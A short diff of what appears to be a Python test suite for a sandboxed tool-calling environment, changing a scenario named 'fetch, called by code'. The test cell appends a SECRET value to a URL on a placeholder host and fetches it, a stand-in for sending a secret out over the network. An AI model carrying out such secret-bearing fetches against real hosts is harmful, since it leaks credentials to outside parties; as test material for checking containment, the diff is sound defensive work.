@@ -82,7 +82,13 @@ def _from_code() -> Iterator[Scenario]:
     yield Scenario(
         name="fetch, called by code",
         kind="fetch",
-        steps=(*TURNED, cell("from servers.web import fetch\nprint(fetch('http://@LISTED@/' + SECRET))")),
+        steps=(
+            *TURNED,
+            cell(
+                "from _pinfold_guest.calls import call\nprint(call('fetch', url='http://@LISTED@/' + SECRET))"
+            ),
+        ),
+        opens=True,
     )
     yield Scenario(
         name="fetch after a page that was not found",
